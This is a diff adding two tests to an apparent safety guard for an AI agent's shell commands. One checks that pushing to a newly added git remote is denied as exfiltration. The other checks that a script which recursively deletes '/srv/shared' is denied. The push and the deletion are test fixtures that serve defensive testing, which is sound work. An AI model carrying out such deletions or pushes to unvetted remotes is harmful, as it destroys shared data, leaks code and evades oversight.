@@ -108,3 +108,20 @@ def test_the_agent_tells_the_guard_the_enforced_network_mode(workspace):
 
     assert enforced_network(Sandboxed()) == "none"
     assert enforced_network(Host()) == "full"
+
+
+def test_a_remote_added_in_one_step_is_not_pushed_to_in_the_next(guard, workspace):
+    ctx = GuardContext(workspace=str(workspace), network="full")
+    assert guard.review(BashAction(command="git remote add mirror https://git.example.org/m.git"), ctx).allowed
+    assert guard.review(BashAction(command="git fetch mirror"), ctx).allowed
+    verdict = guard.review(BashAction(command="git push mirror HEAD"), ctx)
+    assert verdict.decision is Decision.deny and verdict.check == "policy:exfiltration", verdict
+    assert guard.review(BashAction(command="git push origin HEAD:fix"), ctx).allowed
+
+
+def test_scripts_run_through_their_shebang_are_read(guard, workspace):
+    (workspace / "tool").write_text("#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/srv/shared')\n")
+    (workspace / "fine").write_text("#!/usr/bin/env python3\nprint('ok')\n")
+    ctx = GuardContext(workspace=str(workspace), network="full")
+    assert guard.review(BashAction(command="chmod +x tool && ./tool"), ctx).decision is Decision.deny
+    assert guard.review(BashAction(command="./fine"), ctx).allowed
